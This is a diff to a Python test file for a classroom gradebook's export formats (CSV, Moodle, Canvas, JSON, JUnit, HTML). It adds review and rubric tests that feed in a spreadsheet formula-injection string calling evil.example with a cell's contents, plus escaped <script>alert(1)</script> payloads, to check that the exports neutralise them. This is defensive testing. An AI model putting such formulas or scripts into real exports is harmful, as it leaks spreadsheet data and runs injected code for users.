@@ -15,7 +15,7 @@ from hypothesis import strategies as some
 
 from labkit.classroom.exports import certificate, documents, paper, sheet
 from labkit.classroom.exports.cells import cell, risky, table
-from labkit.classroom.gradebook import Checked, Gradebook, Ids, Item, Learner, Mark, Origin
+from labkit.classroom.gradebook import Checked, Gradebook, Ids, Item, Learner, Mark, Origin, Review
 from labkit.errors import LabError
 from labkit.grading.report import Outcome
 from labkit.lab.owner.workshop import Workshop
@@ -62,6 +62,12 @@ def mark(who, exercise, points, maximum, **more):
     )
     told = {"learner": who, "exercise": exercise, "points": points, "maximum": maximum, "at": NOON, "checks": checks}
     return Mark(**told | {"origin": Origin.OBSERVED} | more)
+
+
+REVIEW = Review(
+    learner="l0", exercise="01-login", at=NOON, rubric=(("Names the registry", True), ("Says why", False)),
+    feedback=f"Good.\n{MARKUP}",
+)  # fmt: skip
 
 
 def book(names=NAMES, **more):
@@ -174,7 +180,10 @@ def test_moodle_reads_its_file(by, first):
     grades = moodle_reads(found.text, by, known)
     assert grades[first]["01-login Sign in"] == 3.5
     assert grades[first]["03-push Final Score (7)"] == 7
-    assert grades[first]["03-push Final Score (7) (feedback)"] == "&lt;script&gt;alert(1)&lt;/script&gt;"
+    assert grades[first]["03-push Final Score (7) (feedback)"] == (
+        'Set by hand: =HYPERLINK("http://evil.example/?"&amp;A1). &lt;script&gt;alert(1)&lt;/script&gt; '
+        "&lt;script&gt;alert(1)&lt;/script&gt; \\ud800"
+    ), "what people said, and then what the checks said"
     assert len(grades) == len(NAMES)
     assert all(MARKUP not in str(value) for row in grades.values() for value in row.values())
 
@@ -234,7 +243,40 @@ def test_the_table_for_people_says_where_each_mark_comes_from():
     assert told["01-login: mark"] == "2027-03-05T12:00:00+00:00; observed"
     assert "set by hand: =HYPERLINK" in told["03-push: mark"]
     assert (told["Points"], told["Of"], told["Percent"]) == ("10.5", "14", "75.83")
-    assert second[4:8] == ["", "", "", ""]
+    assert second[4:12] == [""] * 8
+
+
+def test_what_was_said_of_a_text_is_in_every_file_that_has_a_place_for_it():
+    """Also where there is no mark, and without running or marking up anything."""
+    second = msgspec.structs.replace(REVIEW, learner="l1", feedback=FORMULA)
+    given = book(reviews=(REVIEW, second))
+    rubric = "1 of 2 lines of the rubric are met. Met: Names the registry. Not met: Says why."
+    people = list(csv.DictReader(io.StringIO(sheet.people(given).text.removeprefix("\ufeff"))))
+    assert (people[0]["01-login: rubric"], people[0]["01-login: feedback"]) == (rubric, f"Good. {MARKUP}")
+    assert (people[1]["01-login: mark"], people[1]["01-login: feedback"]) == ("", f"'{FORMULA}")
+    assert (people[0]["03-push: rubric"], people[2]["01-login: rubric"]) == ("", "")
+    told = json.loads(documents.to_json(given))
+    assert told["results"][0]["reviews"]["01-login"]["rubric"][1] == {"line": "Says why", "met": False}
+    assert msgspec.convert(told["gradebook"], Gradebook, strict=False).review("l1", "01-login") == second
+    suite = ElementTree.fromstring(documents.junit(given))[0]
+    assert suite.find("properties/property[@name='rubric']").get("value") == rubric
+    assert suite.find("properties/property[@name='feedback']").get("value") == f"Good.\n{MARKUP}"
+    shown = documents.html(given)
+    assert "Names the registry" in shown and MARKUP not in shown
+    known = {one.email for one in given.learners}
+    grades = moodle_reads(sheet.moodle(given).text, "Email address", known)
+    told = grades["l0@example.org"]["01-login Sign in (feedback)"]
+    assert told.startswith(f"{rubric} Good. &lt;script&gt;") and told.endswith("\\ud800"), "and the checks' message"
+    assert grades["l1@example.org"]["01-login Sign in (feedback)"].endswith(
+        'Says why. =HYPERLINK("http://evil.example/?"&amp;A1)'
+    )
+    assert sheet.canvas(given).text == sheet.canvas(book()).text, "it has no place"
+
+
+def test_a_review_is_somebodys_and_of_something():
+    for wrong in ({"learner": "nobody"}, {"exercise": "99-none"}, {"at": NOON.replace(tzinfo=None)}):
+        with pytest.raises(ValueError, match=r"review"):
+            book(reviews=(msgspec.structs.replace(REVIEW, **wrong),))
 
 
 def test_json_holds_all_and_can_be_read_again():
